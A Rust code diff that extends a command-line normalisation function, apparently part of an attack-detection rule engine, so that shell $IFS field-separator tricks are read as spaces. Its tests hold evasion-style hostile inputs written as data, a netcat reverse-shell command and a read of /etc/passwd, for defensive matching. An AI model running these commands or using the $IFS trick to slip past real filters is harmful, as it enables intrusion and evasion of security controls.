@@ -1481,8 +1481,13 @@ fn gunzip_into(data: &[u8], out: &mut Vec<u8>) -> bool {
 /// A comma separates words only inside braces, as in the shell's brace expansion: outside
 /// them `id,name,email` is one word (a field list, not the command `id`). `$@` and `$*`
 /// (the positional parameters, empty in a `sh -c` string) are dropped: `who$@ami` is
-/// `whoami`. Case is left alone: rules with `cmdline` match without case.
+/// `whoami`. `${IFS}` and `$IFS` (the field separator: a space) are a space, and a `$9` or
+/// other positional parameter glued after `$IFS` is dropped with it (`cat$IFS$9/etc`). Case is
+/// left alone: rules with `cmdline` match without case.
 pub fn cmdline(input: &[u8]) -> Cow<'_, [u8]> {
+    if let Some(spaced) = ifs_as_spaces(input) {
+        return Cow::Owned(cmdline(&spaced).into_owned());
+    }
     let special = |b: u8| {
         matches!(
             b,
@@ -1552,6 +1557,46 @@ pub fn cmdline(input: &[u8]) -> Cow<'_, [u8]> {
         }
     }
     Cow::Owned(out)
+}
+
+/// `input` with each `${IFS}` or `$IFS` (and a positional parameter glued after it, `$9`)
+/// written as one space, or `None` if it has none.
+fn ifs_as_spaces(input: &[u8]) -> Option<Vec<u8>> {
+    let first = memchr::memmem::find(input, b"IFS")?;
+    let mut out = Vec::with_capacity(input.len());
+    let mut i = 0;
+    let mut changed = false;
+    // (No `$IFS` can start before the first `IFS` less two bytes.)
+    let start = first.saturating_sub(2);
+    out.extend_from_slice(input.get(..start).unwrap_or_default());
+    i = i.max(start);
+    while let Some(&b) = input.get(i) {
+        let rest = input.get(i..).unwrap_or_default();
+        let n = if rest.starts_with(b"${IFS}") {
+            6
+        } else if rest.starts_with(b"$IFS")
+            && !rest
+                .get(4)
+                .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
+        {
+            4
+        } else {
+            0
+        };
+        if n == 0 {
+            out.push(b);
+            i += 1;
+            continue;
+        }
+        changed = true;
+        out.push(b' ');
+        i += n;
+        // `$IFS$9`: the positional parameter is empty.
+        if input.get(i) == Some(&b'$') && input.get(i + 1).is_some_and(u8::is_ascii_digit) {
+            i += 2;
+        }
+    }
+    changed.then_some(out)
 }
 
 /// See [`Transform::ShellUnquote`].
@@ -1905,6 +1950,16 @@ mod tests {
         );
         assert_eq!(t(Transform::CmdLine, "who^\r\nami"), "whoami");
         assert_eq!(t(Transform::CmdLine, "a\\ b"), "a b");
+        // The field separator is a space.
+        assert_eq!(
+            t(Transform::CmdLine, "nc${IFS}-e${IFS}/bin/sh${IFS}h 4444"),
+            "nc -e/bin/sh h 4444"
+        );
+        assert_eq!(
+            t(Transform::CmdLine, "cat$IFS$9/etc/passwd"),
+            "cat/etc/passwd"
+        );
+        assert_eq!(t(Transform::CmdLine, "$IFSX IFS"), "$IFSX IFS");
         assert!(matches!(cmdline(b"id,name,email"), Cow::Borrowed(_)));
         assert!(matches!(cmdline(b"plain words here"), Cow::Borrowed(_)));
     }
@@ -1943,6 +1998,7 @@ mod tests {
             "a//b",
             "./x",
             ".hidden",
+            "cat${IFS}x",
             "\u{a0}x",
             "\u{3000}",
             "caf\u{e9}",
